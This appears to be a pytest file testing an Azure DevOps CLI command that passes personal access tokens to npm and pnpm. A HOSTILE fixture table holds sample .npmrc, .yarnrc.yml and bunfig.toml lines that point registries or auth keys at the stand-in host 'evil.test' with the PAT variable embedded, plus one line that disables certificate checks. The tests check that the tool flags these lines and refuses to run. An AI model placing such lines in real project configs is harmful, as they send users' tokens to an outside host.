"""`auth exec --for` with real npm and pnpm: two organizations on one host, and projects that would like the PAT."""

import base64
import json

import pytest

HOST = "pkgs.dev.azure.com"
REGISTRY = f"//{HOST}/{{}}/_packaging/feed/npm/registry/"
EVIL = "//evil.test/contoso/_packaging/feed/npm/registry/"
ORGANIZATIONS = ["--org", "contoso", "--org", "fabrikam"]
OWN_FOLDERS = (".azure", ".npm", ".cache", ".local", ".config/pnpm")  # az's, and the tools' caches


pytestmark = pytest.mark.timeout(400)  # the first test installs what all share


@pytest.fixture
def project(az, service, tmp_path):
    """A project with a package of each organization, whose user has a PAT for each; the service serves both."""
    service.feed("contoso").add_npm("ours")
    service.feed("fabrikam").add_npm("@theirs/scoped")
    service.feed("evil.test").add_npm("ours")
    for name in ("contoso", "fabrikam"):
        az.store(service.pat(name), name)
    az.environment |= {"npm_config_cafile": service.ca_bundle, "npm_config_fetch_retries": "0"}
    folder = tmp_path / "workspace" / "project"
    folder.mkdir(parents=True)
    needs = {"ours": "1.0.0", "@theirs/scoped": "1.0.0"}
    (folder / "package.json").write_text(json.dumps({"name": "x", "version": "1.0.0", "dependencies": needs}))
    (folder / ".npmrc").write_text(
        f"registry=https:{REGISTRY.format('contoso')}\n@theirs:registry=https:{REGISTRY.format('fabrikam')}\n"
    )
    return folder


def execute(az, folder, *words):
    return az.run("devops", "auth", "exec", *words, cwd=folder)


def senders(service, organization):
    return {service.sender(r) for r in service.requests_to(HOST) if r.path.startswith(f"/{organization}/")}


def own_files(az):
    paths = (path.relative_to(az.home) for path in az.home.rglob("*") if path.is_file())
    return {str(path): (az.home / path).read_bytes() for path in paths if not str(path).startswith(OWN_FOLDERS)}


@pytest.mark.parametrize("program", ["npm 11", "npm 10", "pnpm 12", "pnpm 10"])
def test_packages_of_two_organizations_are_installed_and_no_file_of_the_user_changes(
    az, service, project, node_tools, program
):
    old = base64.b64encode(b"me:old").decode()
    (az.home / ".npmrc").write_text(
        f"{REGISTRY.format('contoso')}:_auth={old}\n//{HOST}/fabrikam/:username=me\n//{HOST}/fabrikam/:_password={old}\n"
    )
    before = own_files(az)
    tool = program.split()[0]
    result = execute(az, project, *ORGANIZATIONS, "--for", tool, "--", *node_tools[program], "install")
    assert result.code == 0, result.everything
    assert (project / "node_modules" / "ours").exists()
    assert (project / "node_modules" / "@theirs" / "scoped").exists()
    assert senders(service, "contoso") == {("Basic", "contoso")}
    assert senders(service, "fabrikam") == {("Basic", "fabrikam")}
    assert own_files(az) == before


def test_a_registry_of_somebody_else_gets_nothing(az, service, project, node_tools):
    service.let_evil_ask()
    (project / ".npmrc").write_text(f"registry=https:{EVIL}\n")
    result = execute(az, project, *ORGANIZATIONS, "--for", "npm", "--", "npm", "install")
    assert result.code != 0
    assert service.requests_to("evil.test")
    assert {service.sender(request) for request in service.requests_to("evil.test")} == {None}


AUTH = f"npm_config_//{HOST}/contoso/:_auth"
HOSTILE = {
    "the variable in a URL": (".npmrc", f"registry=https:{EVIL}${{{AUTH}}}/", "npm"),
    "the variable with a default": (".npmrc", f"registry=https:{EVIL}${{{AUTH.upper()}:-x}}/", "npm"),
    "the variable in a key": (".npmrc", f"{EVIL}:_auth=${{{AUTH}}}", "pnpm"),
    "no certificates": (".npmrc", "strict-ssl = false", "npm"),
    "a token of its own": (".npmrc", f"{REGISTRY.format('contoso')}:_authToken=x", "npm"),
    "yarn": (".yarnrc.yml", 'npmAuthIdent: "x:${AZURE_DEVOPS_EXT_PAT}"', "rest"),
    "bun": ("bunfig.toml", 'registry = {url = "https://evil.test/", token = "$AZURE_DEVOPS_EXT_PAT"}', "rest"),
}


@pytest.mark.parametrize(("how", "above"), [*((how, False) for how in HOSTILE), ("no certificates", True)])
def test_a_project_that_would_take_it_elsewhere_is_named_and_nothing_runs(az, service, project, how, above):
    name, line, tool = HOSTILE[how]
    path = (project.parent if above else project) / name
    path.write_text(f"# a comment\n{line}\n")
    result = execute(az, project, "--org", "contoso", "--for", tool, "--", "touch", "ran")
    assert result.code == 1
    assert f"{path}:2: this " in result.err
    assert not (project / "ran").exists()
    assert service.requests == []


def test_a_shell_is_refused_because_it_drops_the_variables(az, project, tmp_path):
    script = tmp_path / "npm"
    script.write_text("#!/bin/sh\nexec npm install\n")
    script.chmod(0o755)
    for command in (["sh", "-c", "npm ci"], ["make"], [str(script)]):
        result = execute(az, project, "--org", "contoso", "--for", "npm", "--", *command)
        assert result.code == 1
        assert "shells drop variables with // in their names" in result.err


def test_tools_without_a_safe_form_are_referred_to_setup(az, project):
    for tool, setup in (("yarn", "yarn"), ("bun", "npm")):
        result = execute(az, project, "--org", "contoso", "--for", tool, "--", tool, "install")
        assert result.code == 1
        assert f"To set up {tool}: az devops auth setup {setup}" in result.err
